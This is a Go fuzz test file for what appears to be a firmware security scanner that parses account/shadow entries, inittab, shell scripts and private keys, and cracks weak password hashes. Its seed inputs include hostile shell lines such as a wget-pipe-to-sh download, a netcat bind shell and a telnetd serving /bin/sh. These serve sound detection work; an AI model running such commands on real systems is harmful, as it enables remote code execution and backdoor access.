package detect

import (
	"strings"
	"testing"

	"github.com/assayhq/assay/internal/descrypt"
)

func FuzzParseAccounts(f *testing.F) {
	for _, s := range []string{
		"root:x:0:0:root:/root:/bin/sh\nsvc:x:0:0::/:/bin/sh\n",
		"root:$6$rounds=999999999$abc$def:19723:0:99999:7:::\nadmin:$5$Wd7pQ2mZ$AzAptUuzFl0QqXrl5H/GLLnHTbTwax0UIfSPNiZhC80:1::::::\n",
		"a:$1$$:1::\nb:$2a$04$" + strings.Repeat("A", 53) + ":1\nc:U6aMy0wojraho:1:1::/:\n+::::::\n",
		"x:$apr1$abc$:\n:::::\n\n#c\n",
		"root:Gz94C2wX7uvBU:18000:0:99999:7:::\nadmin:q/AgOp07Ig3N.:1::\nbad:!!AgOp07Ig3N.:1::\n",
		"root:_J9..vdorm8o85Ct/MSw:1::\nsvc:_zzz.Adm1s0/mMWA9Aio:1::\nx:_J9..vdorm8o85Ct/MS:1::\n",
	} {
		f.Add([]byte(s))
	}
	f.Fuzz(func(t *testing.T, b []byte) {
		cracked := 0
		for _, a := range parseAccounts(b) {
			if a.name == "" {
				t.Fatal("empty account name")
			}
			if len(a.hash) <= 512 {
				if kind, _ := hashKind(a.hash); kind != "md5crypt" && strings.HasPrefix(a.hash, "$1$") {
					t.Errorf("md5crypt hash %q not classified", a.hash)
				}
				if kind, _ := hashKind(a.hash); descrypt.IsHash(a.hash) && kind != "DES crypt" && kind != "BSDi extended DES" {
					t.Errorf("DES crypt hash %q classified as %q", a.hash, kind)
				}
				// Work factors within the bounds but slow (sha*crypt rounds,
				// bcrypt cost, extended DES counts) would stall the fuzzer;
				// crack cheap hashes, at most three per input, and those past
				// the bounds (which return at once).
				if cryptRounds(a.hash) > maxCryptRound || descrypt.Iterations(a.hash) > maxDESCount {
					crack(a.hash, a.name)
				} else if cracked < 3 && crackCost(a.hash) <= 1000 {
					cracked++
					crack(a.hash, a.name)
				}
			}
		}
	})
}

func FuzzParseInittab(f *testing.F) {
	for _, s := range []string{
		"::sysinit:/etc/init.d/rcS\nttyAMA0::respawn:/bin/login -f root\n::askfirst:-/bin/sh\n",
		"id:2:initdefault:\n1:2345:respawn:/sbin/getty -n -l /bin/sh 38400 tty1 \\\n  more\n# x:y:z:w\n",
	} {
		f.Add([]byte(s))
	}
	f.Fuzz(func(t *testing.T, b []byte) {
		for _, e := range parseInittab(b) {
			s := startedLine{line: e.line, via: "inittab", action: e.action, tty: e.id}
			s.line.text = e.process
			consoleShell(s)
			commands(e.process)
		}
	})
}

func FuzzShellLines(f *testing.F) {
	for _, s := range []string{
		"#!/bin/sh\n/sbin/telnetd -p 2323 -l /bin/sh # comment\necho 'a # b' \"c\\\"\" `x`\nfoo \\\nbar\n",
		"wget -O - http://x/y | sh; nc -lp 1 -e /bin/sh & IP=$(echo \"$QUERY_STRING\")\n",
	} {
		f.Add([]byte(s))
	}
	f.Fuzz(func(t *testing.T, b []byte) {
		for _, l := range shellLines(b) {
			if len(l.raw) > maxLineLen+4 {
				t.Fatalf("line longer than bound: %d", len(l.raw))
			}
			for _, c := range commands(l.text) {
				daemonArgs(c, "telnetd")
				outputFile(c, "http://x/y")
			}
			findEndpoints(l.text, false)
			if m := cryptoKeyRe().FindStringSubmatch(l.text); m != nil {
				weakCryptoSetting(m[1], m[2])
			}
			passwordValue("password", l.text)
		}
	})
}

func FuzzFindKeys(f *testing.F) {
	k := testKeys()
	f.Add([]byte(dropbearEd25519(k.ed)))
	f.Add([]byte(dropbearRSA(k.rsa1024)))
	f.Add([]byte(openSSHKey(f, k.ed)))
	f.Add([]byte("junk-----BEGIN RSA PRIVATE KEY-----\nAAAA\n-----END RSA PRIVATE KEY-----\n-----BEGIN PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED\n\nAAAA\n-----END PRIVATE KEY-----\n"))
	f.Add([]byte("\x00\x00\x00\x13ecdsa-sha2-nistp256\x00\x00\x00\x08nistp256\x00\x00\x00\x01\x04\x00\x00\x00\x01\x01"))
	f.Fuzz(func(t *testing.T, b []byte) {
		keys := FindKeys(b)
		if len(keys) > maxKeysPerFile {
			t.Fatalf("%d keys", len(keys))
		}
		for _, k := range keys {
			if k.Offset < 0 || k.Offset > int64(len(b)) {
				t.Fatalf("offset %d", k.Offset)
			}
		}
	})
}
